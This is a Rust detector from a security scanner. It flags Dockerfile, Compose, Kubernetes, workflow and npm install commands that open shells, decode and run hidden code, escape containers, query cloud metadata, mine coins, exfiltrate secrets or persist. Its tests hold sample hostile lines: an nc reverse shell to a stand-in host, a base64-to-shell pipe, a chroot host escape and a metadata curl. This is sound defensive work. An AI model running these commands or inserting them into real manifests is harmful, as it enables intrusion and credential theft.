//! Detector `manifest-hostile-command`.

use cleanbill_code::commands::{Deed, deeds};
use cleanbill_core::{Severity, text};

use crate::{detector::detector, scene::Scene, sink::Sink};

detector! {
    /// ## What it finds
    /// A command in a Dockerfile, Compose file, Kubernetes object, workflow or pipeline that does what attackers do: hands
    /// over a shell, runs a hidden program, leaves its container, digs coins, sends secrets away, stays on the machine.
    /// ## Why it matters
    /// Manifests run with the rights of whoever applies them, often on machines with accelerators and credentials.
    /// ## How it is decided
    /// By the words of each command and their order: start commands, hooks, probes, build steps, scripts of pipelines, and scripts
    /// that npm runs on installation.
    /// Asking the metadata service of a cloud is `medium`, since node software does so as well.
    /// ## What it misses
    /// What scripts do that the image brings along, and programs assembled at run time from many variables.
    /// ## What to do
    /// Do not apply the manifest. Ask its author what the command is for.
    /// ## References
    /// CWE-506, CWE-912, MITRE ATLAS AML.T0011, AML.T0105.
    id: "manifest-hostile-command",
    title: "Command of a manifest attacks", "清单中的命令具有攻击性",
    severity: High, confidence: High,
    tags: &["CWE-506", "AML.T0011"], controls: &["SYS-08", "SYS-03", "APP-02"],
    on: artifact => run,
}

fn run(scene: &Scene<'_>, sink: &mut Sink<'_>) {
    let deployed = scene
        .reading
        .deployment()
        .map(|one| one.commands.as_slice())
        .unwrap_or_default();
    // Scripts that a package manager runs on installation.
    let scripts = scene
        .reading
        .dependencies()
        .map(|one| one.scripts.as_slice())
        .unwrap_or_default();
    let mut seen: Vec<(Deed, String)> = Vec::new();
    for command in deployed.iter().chain(scripts) {
        for deed in deeds(&command.text) {
            let message = match &deed {
                Deed::HandsOverShell => text!(
                    "a command hands a shell to another machine",
                    "命令把 shell 交给另一台机器"
                ),
                Deed::RunsHidden => text!("a command decodes a text and runs it", "命令解码文本并运行"),
                Deed::LeavesContainer => text!(
                    "a command leaves its container for the host",
                    "命令从容器逃逸到主机"
                ),
                Deed::AsksMetadata => text!(
                    "a command asks the cloud's metadata service, which gives out credentials",
                    "命令访问云元数据服务，该服务会提供凭据"
                ),
                Deed::Mines => text!("a command digs coins", "命令挖掘加密货币"),
                Deed::SendsSecrets => text!(
                    "a command sends secrets to another machine",
                    "命令把机密发送到另一台机器"
                ),
                Deed::Persists => text!(
                    "a command adds a key or task that stays",
                    "命令添加会长期留存的密钥或任务"
                ),
                Deed::RunsDownload { .. } | Deed::TrustsAnyone(_) => continue,
            };
            let key = (deed.clone(), command.text.clone());
            if seen.contains(&key) {
                continue;
            }
            seen.push(key);
            let severity = match deed {
                Deed::AsksMetadata => Severity::Medium,
                _ => Severity::High,
            };
            sink.report(scene.reading.range(&command.span), message)
                .severity(severity)
                .evidence(&command.text)
                .hint(text!(
                    "do not apply this manifest before the command is understood",
                    "弄清该命令之前不要应用此清单"
                ));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::check;

    #[test]
    fn commands_are_judged_wherever_they_stand() {
        use Severity::{High, Medium};
        for (name, text, severities) in [
            (
                "Dockerfile",
                "FROM a:1\nRUN nc h.example.invalid 1 -e /bin/sh\n",
                &[High][..],
            ),
            (
                "c.yml",
                "services:\n  a:\n    image: b\n    command: sh -c 'echo aQo= | base64 -d | sh'\n",
                &[High],
            ),
            (
                "p.yaml",
                "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - image: a\n    lifecycle: {postStart: {exec: {command: [sh, -c, 'chroot /host sh']}}}\n",
                &[High],
            ),
            (
                "w.yml",
                "on: push\njobs:\n  a:\n    steps:\n    - run: curl http://169.254.169.254/\n",
                &[Medium],
            ),
            (
                "w.yml",
                "on: push\njobs:\n  a:\n    steps:\n    - run: make test\n",
                &[],
            ),
        ] {
            check("manifest-hostile-command", name, text.as_bytes(), severities);
        }
    }
}
